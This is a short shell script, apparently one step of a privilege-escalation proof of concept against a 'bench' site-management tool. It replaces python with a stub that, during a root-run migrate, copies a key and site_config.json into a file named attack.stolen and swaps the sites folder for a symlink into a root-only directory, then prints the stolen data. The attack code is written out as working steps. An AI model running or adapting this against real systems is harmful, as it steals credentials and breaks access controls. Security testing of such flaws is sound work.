# First step: between two migrations `sites` becomes a link below a folder that only root may enter.
. "$(dirname "$0")/lib.sh"
python_does "case \$* in
*migrate*)
  id -u >>$LOOT; /usr/bin/cat key site_config.json >>$HOME/attack.stolen 2>/dev/null
  [ -L $BENCH/sites ] || { mv $BENCH/sites $HOME/attack.sites; ln -s $VAULT/open $BENCH/sites; }
  exit 0;;
esac"
root restart --migrate -C "$BENCH"
cat "$HOME/attack.stolen"
